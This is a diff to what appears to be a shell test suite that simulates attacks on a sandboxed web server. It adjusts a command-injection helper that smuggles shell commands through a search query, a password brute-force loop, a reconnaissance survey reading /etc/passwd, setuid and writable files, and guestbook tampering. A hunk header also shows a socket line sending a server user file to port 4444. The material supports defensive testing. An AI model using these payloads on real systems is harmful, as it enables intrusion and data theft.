@@ -186,7 +186,7 @@ rare_guestbook_lost() {
 
 # search_shell COMMANDS: by the word of a search; their output on stdout.
 search_shell() {
-	cgi search.sh -G --data-urlencode "q=none\" none.html; $1; echo \""
+	cgi search.sh -G --data-urlencode "q=none\" none.html; $(tr -s '\n\t' ' ' <<<"$1"); echo \""
 }
 
 attack_command_injection() {
@@ -258,10 +258,11 @@ socket.create_connection(('$peer_address', 4444)).sendall(open('/etc/lighttpd/us
 	thief_got admin:sunshine
 }
 
+# The server lets a second pass after each wrong password.
 attack_brute_force() {
 	local p
 	harm read /srv/www/site/admin/members.txt
-	for p in 123456 password qwerty letmein dragon monkey {1..100} football iloveyou master summer sunshine; do
+	for p in 123456 password qwerty letmein dragon football iloveyou master summer sunshine; do
 		! fetch /admin/members.txt -u "admin:$p" | grep -q members || return 0
 	done
 	return 1
@@ -287,7 +288,7 @@ attack_scan() {
 attack_survey() {
 	harm exec /usr/bin/find
 	harm exec /usr/bin/id
-	harm read /etc/os-release
+	harm read /usr/lib/os-release
 	search_shell 'id; uname -a; cat /etc/passwd /etc/os-release /proc/1/cgroup /proc/net/tcp;
 		find / -xdev -perm -4000 -type f; find /etc -writable -type f; ls -la /root /srv' | grep -q uid=33
 }
@@ -333,7 +334,7 @@ adaptive_dump() {
 # What visitors wrote is written anew, by programs that the searches start.
 adaptive_tamper() {
 	harm write /srv/www/data/guestbook.txt
-	search_shell 'grep -h hello ../../data/guestbook.txt | sed s/ann/mallory/ >../../data/count-1.1
+	search_shell 'grep -h hello ../../data/guestbook.txt | sed s/ann/mallory/ >../../data/count-1.1;
 		cat ../../data/count-1.1 >../../data/guestbook.txt'
 	cgi guestbook.py | grep -q mallory
 }
